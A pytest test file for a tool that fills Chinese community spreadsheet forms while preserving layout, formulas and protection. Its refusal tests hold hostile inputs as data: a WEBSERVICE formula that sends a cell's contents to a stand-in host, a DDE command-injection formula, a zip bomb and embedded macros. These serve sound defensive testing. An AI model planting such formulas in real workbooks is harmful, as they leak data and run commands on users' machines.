"""A form somebody sent is filled: what is theirs stays theirs, what is unknown is marked."""

import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from io import BytesIO
from typing import Any

import pytest
from form_kit import KNOWN, filled, form, person, saved, understood
from openpyxl import Workbook, load_workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.formatting.rule import CellIsRule
from openpyxl.styles import Alignment, PatternFill, Protection
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula
from openpyxl.worksheet.worksheet import Worksheet
from python_calamine import CalamineWorkbook

from wangge.kernel.refusals import Refusal
from wangge.kernel.sheet_refusals import (
    FileMissingOrEmpty,
    NoHeadings,
    NotATable,
    TableTooLarge,
    TableUnpacksTooLarge,
    WorkbookUnreadable,
)
from wangge.reports.workbook.fill import Column, Filler, SheetFull, Stamp
from wangge.reports.workbook.formulas import Shift, repeated
from wangge.reports.workbook.layout import NothingToFill, understand
from wangge.reports.workbook.package import (
    TEMPLATE_BYTES_MAX,
    TemplateActs,
    TemplateIsOldExcel,
    open_package,
)
from wangge.reports.workbook.sheet import CELLS_MAX, TemplateFull

YELLOW = "FFFFF2B3"
ONCE = {"unit": "杏花社区", "date": "2026-03-18", "day": "2026年3月18日", "by": "许社区"}


def values(sheet: Worksheet, low: int, high: int) -> list[tuple[Any, ...]]:
    rows: Any = sheet.iter_rows(low, high, values_only=True)
    return list(rows)


def colour(cell: Any) -> str:
    return str(cell.fill.fgColor.rgb)


def test_a_form_is_understood() -> None:
    _, layout = understood(form())
    assert [slot.heading.leaf for slot in layout.slots] == [
        *("序号", "姓名", "性别", "手机号码", "宠物免疫证号", "现住址", "入住日期"),
    ]
    assert (layout.first, layout.last, layout.room, layout.old_rows) == (6, 9, 4, 0)
    assert [(p.code, p.row, p.column) for p in layout.places] == [
        *(("unit", 1, 1), ("day", 1, 5), ("by", 10, 1)),
    ]


def test_a_form_with_empty_cells_beside_its_labels_stays_a_workbook() -> None:
    """Programs write a cell that holds nothing as one tag: several in a row, before one with words, in
    rows that are written anew (labels) and in rows that move (the foot)."""

    def empty_cells(sheet: Worksheet) -> None:
        for row, columns in ((2, "CDE"), (11, "BCEF")):
            for column in columns:
                sheet[f"{column}{row}"].alignment = Alignment(wrap_text=True)
        sheet.row_dimensions[10].height = 30

    sheet, _, data = filled(form(empty_cells), [person(n) for n in range(9)], once=ONCE)
    assert [sheet["B2"].value, sheet["F2"].value] == ["杏花社区", "填报日期:2026年3月18日"]
    foot = next(row for row in sheet.iter_rows() if row[0].value == "填表人:")
    assert [cell.value for cell in foot[:5]] == ["填表人:", "许社区", None, "审核人:", None]
    with zipfile.ZipFile(BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    refs = re.findall(r'<c r="([A-Z]+[0-9]+)"', xml)
    assert len(refs) == len(set(refs))
    numbers = [int(n) for n in re.findall(r'<row r="([0-9]+)"', xml)]
    assert numbers == sorted(set(numbers))


def test_rows_go_under_the_headings_and_labels_get_their_values() -> None:
    sheet, done, data = filled(form(), [person(1), person(2)], once=ONCE)
    assert (done.rows, done.unknown) == (2, 2)
    assert values(sheet, 6, 8) == [
        (1, "甲居民1", "男", "19900001234", None, "1幢1单元101室", sheet["G6"].value),
        (2, "甲居民2", "男", "19900001234", None, "2幢1单元101室", None),
        (None,) * 7,
    ]
    assert sheet["G6"].value.strftime("%Y-%m-%d") == "2026-03-18"
    assert sheet["B2"].value == "杏花社区"
    assert sheet["F2"].value == "填报日期:2026年3月18日"
    assert sheet["B11"].value == "许社区"
    # Another reader agrees.
    other = CalamineWorkbook.from_filelike(BytesIO(data)).get_sheet_by_index(0).to_python()
    assert other[5][1] == "甲居民1"


def test_formats_widths_and_heights_stay() -> None:
    sheet, _, _ = filled(form(), [person(n) for n in range(1, 12)])
    assert sheet["A1"].font.bold
    assert sheet.column_dimensions["F"].width == 41.5
    assert sheet.freeze_panes == "A6"
    assert {str(m) for m in sheet.merged_cells.ranges} >= {"A1:G1", "B3:E3", "A3:A5"}
    for row in (6, 9, 10, 16):
        assert sheet.row_dimensions[row].height == 24
        assert sheet.cell(row, 3).border.left.style == "thin"
        assert sheet.cell(row, 7).number_format == "yyyy-mm-dd"


def test_more_rows_than_prepared_push_the_foot_down() -> None:
    sheet, _, _ = filled(form(), [person(n) for n in range(1, 12)], once=ONCE)
    assert sheet["B16"].value == "甲居民11"
    assert sheet["A17"].value == "合计"
    assert sheet["C17"].value == "=COUNTA(B6:B16)"
    assert sheet["D17"].value == "=C17*2"
    assert sheet["B18"].value == "许社区"
    assert sheet["A19"].value == "注:本表每月 5 日前报送"
    assert "A19:G19" in {str(m) for m in sheet.merged_cells.ranges}


@pytest.mark.parametrize("people", [1, 11])
def test_whose_copy_it_is_stands_under_the_foot_and_moves_nothing(people: int) -> None:
    rows = [person(n) for n in range(1, people + 1)]
    stamp = Stamp("许<社区 & 2026-03-18 12:00 导出", "许社区", "A1B2", "花名册")
    plain, _, _ = filled(form(), rows, once=ONCE, stamp=stamp)
    shown, _, data = filled(form(), rows, once=ONCE, stamp=replace(stamp, shown=True))
    last = plain.max_row
    assert values(shown, 1, last) == values(plain, 1, last)
    assert shown.merged_cells.ranges == plain.merged_cells.ranges
    assert shown.max_row == last + 2, "with a row between it and the form"
    assert shown.cell(last + 2, 1).value == stamp.line
    other = CalamineWorkbook.from_filelike(BytesIO(data)).get_sheet_by_index(0).to_python()
    assert other[-1][0] == stamp.line


@pytest.mark.parametrize("last", [40, 1_048_576])
def test_rows_that_only_have_a_format_do_not_push_the_line_out_of_the_sheet(last: int) -> None:
    """Offices' forms are often formatted down to the last row there is."""

    def to_the_bottom(sheet: Worksheet) -> None:
        for row in (14, last):
            sheet.cell(row, 1).fill = PatternFill("solid", fgColor="FFEEEEEE")
            sheet.row_dimensions[row].height = 24

    stamp = Stamp("许社区 导出", "许社区", "A1B2", "花名册", shown=True)
    sheet, _, data = filled(form(to_the_bottom), [person(1)], once=ONCE, stamp=stamp)
    assert sheet["A12"].value == "注:本表每月 5 日前报送"
    assert sheet["A14"].value == stamp.line
    assert sheet.max_row == last
    with zipfile.ZipFile(BytesIO(data)) as packed:
        xml = packed.read("xl/worksheets/sheet1.xml")
    numbers = [int(n) for n in re.findall(rb'<row r="(\d+)"', xml)]
    assert numbers == sorted(set(numbers))
    assert numbers[-1] <= 1_048_576


def test_what_nobody_knows_is_marked_and_not_guessed() -> None:
    sheet, done, _ = filled(form(), [person(1), person(2, phone="")])
    assert sheet["D7"].value is None
    assert colour(sheet["D7"]) == YELLOW
    assert sheet["D7"].border.left.style == "thin"
    assert colour(sheet["E6"]) == colour(sheet["E7"]) == YELLOW
    assert colour(sheet["D6"]) != YELLOW
    assert colour(sheet["G7"]) != YELLOW, "no date is an answer there"
    assert done.unknown == 3


def test_a_prepared_row_that_is_not_needed_loses_its_number() -> None:
    sheet, _, _ = filled(form(), [person(1)])
    assert [sheet.cell(row, 1).value for row in range(6, 11)] == [1, None, None, None, "合计"]


def test_no_rows_at_all_leave_a_form() -> None:
    sheet, done, _ = filled(form(), [])
    assert (done.rows, done.cells, done.unknown) == (0, 0, 0)
    assert sheet["A10"].value == "合计"


def _with_formulas(sheet: Worksheet) -> None:
    for row in range(6, 10):
        sheet.cell(row, 8, f'=IF(D{row}="","缺",G{row}-$G$6)')
    for row in range(6, 10):
        sheet.cell(row, 9, f"=ROW()-ROW(A{row - 1})")


def test_formulas_of_a_row_are_repeated_for_every_row() -> None:
    sheet, _, _ = filled(form(_with_formulas), [person(n) for n in range(1, 8)])
    assert sheet["H6"].value == '=IF(D6="","缺",G6-$G$6)'
    assert sheet["H12"].value == '=IF(D12="","缺",G12-$G$6)'
    assert sheet["I12"].value == "=ROW()-ROW(A11)"


def test_what_points_at_moved_rows_moves_along() -> None:
    def change(sheet: Worksheet) -> None:
        sheet.conditional_formatting.add(
            "D6:D9",
            CellIsRule("equal", ["$C$10"], fill=PatternFill(start_color="FFEE1111")),
        )
        choice = DataValidation("list", '"男,女"')
        choice.add("C6:C9")
        sheet.add_data_validation(choice)
        sheet.auto_filter.ref = "A5:G9"
        book: Any = sheet.parent
        other = book.create_sheet("汇总")
        other["A1"] = "=花名册!C10"
        other["A2"] = "=SUM(花名册!A6:A9)"
        other["A3"] = "=A10"
        book.defined_names["全部"] = DefinedName("全部", attr_text="花名册!$A$6:$G$9")
        chart = BarChart()
        chart.add_data(Reference(sheet, min_col=1, min_row=6, max_row=9))
        sheet.add_chart(chart, "B14")
        sheet["C11"] = ArrayFormula("C11", "=SUM(A6:A9*2)")

    sheet, _, data = filled(form(change), [person(n) for n in range(1, 12)])
    assert [str(r.sqref) for r in sheet.conditional_formatting] == ["D6:D16"]
    rule = next(iter(sheet.conditional_formatting)).rules[0]
    assert rule.formula == ["$C$17"]
    assert str(sheet.data_validations.dataValidation[0].sqref) == "C6:C16"
    assert sheet.auto_filter.ref == "A5:G16"
    book: Any = sheet.parent
    other = book["汇总"]
    assert [other[f"A{n}"].value for n in (1, 2, 3)] == [
        *("=花名册!C17", "=SUM(花名册!A6:A16)", "=A10"),
    ]
    assert book.defined_names["全部"].attr_text == "花名册!$A$6:$G$16"
    with zipfile.ZipFile(BytesIO(data)) as archive:
        chart = archive.read("xl/charts/chart1.xml").decode()
        drawing = archive.read("xl/drawings/drawing1.xml").decode()
    assert "'花名册'!$A$6:$A$16" in chart
    assert "<xdr:row>20</xdr:row>" in drawing or "<row>20</row>" in drawing


def test_parts_that_are_not_ours_pass_through_untouched() -> None:
    data = form()
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as came, zipfile.ZipFile(out, "w") as more:
        for name in came.namelist():
            more.writestr(name, came.read(name))
        more.writestr("xl/media/image1.png", b"\x89PNG not really")
        more.writestr("customXml/item1.xml", "<a>留着</a>")
    _, _, made = filled(out.getvalue(), [person(1)])
    with zipfile.ZipFile(BytesIO(made)) as archive:
        assert archive.read("xl/media/image1.png") == b"\x89PNG not really"
        assert archive.read("customXml/item1.xml").decode() == "<a>留着</a>"
        assert archive.testzip() is None


# -- protection ------------------------------------------------------------------------------------


def _protect(*unlocked: int) -> Callable[[Worksheet], None]:
    def change(sheet: Worksheet) -> None:
        sheet.protection.sheet = True
        for row in range(6, 10):
            for column in unlocked:
                sheet.cell(row, column).protection = Protection(locked=False)

    return change


def test_protected_cells_stay_as_they_are() -> None:
    sheet, done, _ = filled(form(_protect(1, 2, 4, 5)), [person(1), person(2)], once=ONCE)
    assert sheet.protection.sheet
    assert values(sheet, 6, 6) == [(1, "甲居民1", None, "19900001234", None, None, None)]
    assert sheet["B2"].value is None, "the label's cell is locked as well"
    assert (colour(sheet["C6"]), colour(sheet["E6"])) == ("00000000", YELLOW)
    assert done.unknown == 2


def test_a_form_that_is_locked_throughout_is_refused() -> None:
    with pytest.raises(NothingToFill):
        understood(form(_protect()))


# -- rows that are named ---------------------------------------------------------------------------


def _counts() -> bytes:
    book = Workbook()
    sheet: Any = book.active
    sheet.append(["各社区人口情况", None, None])
    sheet.merge_cells("A1:C1")
    sheet.append(["社区", "户数", "人数"])
    for name in ("杏花社区", "柳树社区", "没有的社区"):
        sheet.append([name, None, None])
    sheet.append(["合计", "=SUM(B3:B5)", "=SUM(C3:C5)"])
    return saved(book)


def test_rows_the_form_names_are_filled_where_they_are() -> None:
    package = open_package(_counts(), "counts.xlsx")
    layout = understand(
        package, lambda text: text in ("户数", "人数"), row_labels=lambda t: t.endswith("社区")
    )
    assert dict(layout.labels) == {3: "杏花社区", 4: "柳树社区", 5: "没有的社区"}
    out = BytesIO()
    columns = [Column(1, "number", mark=True), Column(2, "number", mark=True)]
    filler = Filler(package, layout, columns, out)
    counts = {"柳树社区": (b"8", b"17"), "杏花社区": (b"12", b"28")}
    filler.counted(
        {number: counts[words] for number, words in layout.labels.items() if words in counts}
    )
    done = filler.close()
    sheet: Any = load_workbook(BytesIO(out.getvalue())).active
    assert values(sheet, 3, 6) == [
        ("杏花社区", 12, 28),
        ("柳树社区", 8, 17),
        ("没有的社区", None, None),
        ("合计", "=SUM(B3:B5)", "=SUM(C3:C5)"),
    ]
    assert colour(sheet["B5"]) == YELLOW
    assert (done.rows, done.cells, done.unknown) == (2, 4, 2)


# -- bad input -------------------------------------------------------------------------------------


def _zipped(**parts: bytes) -> bytes:
    out = BytesIO()
    with (
        zipfile.ZipFile(BytesIO(form())) as came,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made,
    ):
        for name in came.namelist():
            made.writestr(name, came.read(name))
        for name, data in parts.items():
            made.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "refusal"),
    [
        (b"", FileMissingOrEmpty),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an old one", TemplateIsOldExcel),
        (b"%PDF-1.7", NotATable),
        (b"name,phone\n", NotATable),
        (b"PK\x03\x04 no archive", WorkbookUnreadable),
        (b"PK" + b"\0" * TEMPLATE_BYTES_MAX, TableTooLarge),
        (_zipped(**{"xl/vbaProject.bin": b"x"}), TemplateActs),
        (_zipped(**{"xl/externalLinks/externalLink1.xml": b"<a/>"}), TemplateActs),
        (_zipped(**{"xl/connections.xml": b"<a/>"}), TemplateActs),
        (_zipped(**{"xl/embeddings/oleObject1.bin": b"x"}), TemplateActs),
        (_zipped(**{"xl/more.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}), WorkbookUnreadable),
        (_zipped(**{"xl/bomb.bin": b"\0" * 101_000_000}), TableUnpacksTooLarge),
    ],
    # The bytes themselves hold the moment they were zipped, and two processes must agree.
    ids=lambda value: value.__name__ if isinstance(value, type) else "file",
)
def test_a_file_that_is_no_form_is_refused(data: bytes, refusal: type[Refusal]) -> None:
    with pytest.raises(refusal):
        open_package(data, "x.xlsx")


@pytest.mark.parametrize(
    "formula",
    ['=WEBSERVICE("http://a.example/?q="&B6)', "=cmd|' /C calc'!A0", '=RTD("a",,"b")'],
)
def test_a_formula_that_sends_the_table_away_is_refused(formula: str) -> None:
    def change(sheet: Worksheet) -> None:
        sheet["H6"] = formula

    with pytest.raises(TemplateActs):
        open_package(form(change), "x.xlsx")


def test_a_sheet_without_headings_and_a_full_one_are_refused() -> None:
    book = Workbook()
    sheet: Any = book.active
    sheet["A1"] = "没有表头"
    with pytest.raises(NoHeadings):
        understood(saved(book))
    cells = b'<c t="n"><v>1</v></c>' * (CELLS_MAX + 1)
    with zipfile.ZipFile(BytesIO(form())) as came:
        xml = came.read("xl/worksheets/sheet1.xml")
    full = xml.replace(b"<sheetData>", b'<sheetData><row r="1">' + cells + b"</row>", 1)
    package = open_package(form(), "x.xlsx")
    package.parts["xl/worksheets/sheet1.xml"] = full
    with pytest.raises(TemplateFull):
        understand(package, KNOWN.known)


def test_text_that_no_xml_may_hold_and_text_that_looks_like_a_formula_are_text() -> None:
    evil = (b"=1+1", b"a\x00b\x0bc", b"&lt;b&gt; &amp; 100% \xef\xbf\xbf", b"#5", b"")
    sheet, _, _ = filled(form(), [evil])
    assert [sheet[f"{c}6"].value for c in "BCDF"] == ["=1+1", "abc", "<b> & 100% ", "#5"]
    assert sheet["B6"].data_type != "f"


def test_a_sheet_has_an_end(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("wangge.reports.workbook.fill.SHEET_ROWS_MAX", 8)
    with pytest.raises(SheetFull):
        filled(form(), [person(n) for n in range(9)])


def test_a_workbook_of_another_program_is_filled_too() -> None:
    """Some programs write every tag with a prefix, no row numbers, and empty data as one tag."""
    data = form()
    with zipfile.ZipFile(BytesIO(data)) as came:
        parts = {name: came.read(name) for name in came.namelist()}
    xml = parts["xl/worksheets/sheet1.xml"].decode()
    xml = re.sub(r"<(/?)(\w)", r"<\1x:\2", xml.replace("xmlns=", "xmlns:x="))
    parts["xl/worksheets/sheet1.xml"] = xml.encode()
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, part in parts.items():
            made.writestr(name, part)
    sheet, done, _ = filled(out.getvalue(), [person(n) for n in range(1, 7)])
    assert sheet["B11"].value == "甲居民6"
    assert sheet["C12"].value == "=COUNTA(B6:B11)"
    assert done.rows == 6


# -- formulas --------------------------------------------------------------------------------------

SHIFT = Shift("表 1", 6, 9, 5)


@pytest.mark.parametrize(
    ("formula", "becomes"),
    [
        ("SUM(B6:B9)", "SUM(B6:B14)"),
        ("SUM($B$6:$B$9)+B10", "SUM($B$6:$B$14)+B15"),
        ("B9+B8", "B9+B8"),
        ("SUM(B1:B20)", "SUM(B1:B25)"),
        ("SUM(B2:B4)", "SUM(B2:B4)"),
        ("'表 1'!A10&别的!A10", "'表 1'!A15&别的!A10"),
        ('"A10"&A10&LOG10(A1)', '"A10"&A15&LOG10(A1)'),
        ("6:9", "6:14"),
        ("A10B+Name10", "A10B+Name10"),
        ('COUNTIF(C6:C9,"男")/C10', 'COUNTIF(C6:C14,"男")/C15'),
    ],
)
def test_references_follow_their_rows(formula: str, becomes: str) -> None:
    assert SHIFT.formula(formula, "表 1") == becomes


def test_a_repeated_formula_moves_with_its_row() -> None:
    at = repeated('IF(A6="A6",$B$6,C5:D6)+E$6', 6)
    assert at(6) == 'IF(A6="A6",$B$6,C5:D6)+E$6'
    assert at(100) == 'IF(A100="A6",$B$6,C99:D100)+E$6'
